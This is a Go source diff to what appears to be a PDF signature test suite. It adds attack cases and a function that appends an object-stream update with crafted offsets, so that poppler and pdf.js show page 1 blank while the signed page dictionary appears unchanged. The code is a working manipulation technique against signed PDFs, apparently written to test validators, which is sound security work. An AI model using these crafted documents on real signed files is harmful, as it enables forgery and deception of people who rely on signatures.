@@ -7,6 +7,7 @@ import (
 	"encoding/binary"
 	"errors"
 	"fmt"
+	"regexp"
 	"strings"
 
 	"github.com/kyso-vn/kyso/internal/testpdf"
@@ -91,6 +92,16 @@ func structure(p *PKI, b *Base) ([]Case, error) {
 				Evidence{Shows: ForgedText, Hides: b.Marker})
 		},
 		func() ([]Case, error) {
+			doc, err := cutInObjectStream(b.PDF, false)
+			return attack(ClassStructure, b, "page dictionary rewritten unchanged in an object stream whose next object starts before its /Contents", doc, err,
+				Evidence{Hides: b.Marker})
+		},
+		func() ([]Case, error) {
+			doc, err := cutInObjectStream(b.PDF, true)
+			return attack(ClassStructure, b, "page dictionary rewritten unchanged in an object stream whose offsets decrease", doc, err,
+				Evidence{Hides: b.Marker})
+		},
+		func() ([]Case, error) {
 			doc, err := encryptedLater(b.PDF)
 			return attack(ClassStructure, b, "/Encrypt (RC4, empty user password) added by an update", doc, err, Evidence{Hides: b.Marker, Renders: true})
 		},
@@ -172,6 +183,45 @@ func generation(doc []byte, repoint bool) ([]byte, error) {
 	x := b.Len()
 	fmt.Fprintf(&b, "xref\n%strailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", table, in.size, in.root, in.extra, in.startxref, x)
 	return b.Bytes(), nil
+}
+
+// cutInObjectStream appends to doc an update (a cross-reference stream)
+// that redefines page 1 with the same dictionary, /Contents last, in an
+// object stream that also holds an unused object. poppler and pdf.js read
+// each object of an object stream only up to the next object's offset,
+// and reject a stream whose offsets decrease; qpdf reads each object from
+// its offset to its end. With the unused object's offset at /Contents,
+// poppler reads the page without /Contents; with decreasing offsets
+// (decrease), without the page. Either way page 1 is blank, while the
+// page dictionary as written is the signed one.
+func cutInObjectStream(doc []byte, decrease bool) ([]byte, error) {
+	page, err := PageOf(doc, 1)
+	if err != nil {
+		return nil, err
+	}
+	n, err := Size(doc)
+	if err != nil {
+		return nil, err
+	}
+	re := regexp.MustCompile(`/Contents\s*[0-9]+\s+[0-9]+\s+R`)
+	contents := re.FindString(page.Body)
+	end := strings.LastIndex(page.Body, ">>")
+	if contents == "" || end < 0 {
+		return nil, errors.New("page 1 has no /Contents reference")
+	}
+	body := re.ReplaceAllLiteralString(page.Body[:end], "") + contents + " >>"
+	var head, data string
+	if decrease {
+		// The unused object first in the data, listed second.
+		unused := "<< /Unused true >>\n"
+		head = fmt.Sprintf("%d %d %d 0\n", page.ID, len(unused), n)
+		data = unused + body + "\n"
+	} else {
+		head = fmt.Sprintf("%d 0 %d %d\n", page.ID, n, strings.LastIndex(body, contents))
+		data = body + "\n"
+	}
+	return Append(doc, Update{Form: XRefStream, Packed: map[int]string{page.ID: "", n: ""},
+		ObjStmDict: fmt.Sprintf("/N 2 /First %d", len(head)), ObjStmData: []byte(head + data)})
 }
 
 // passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
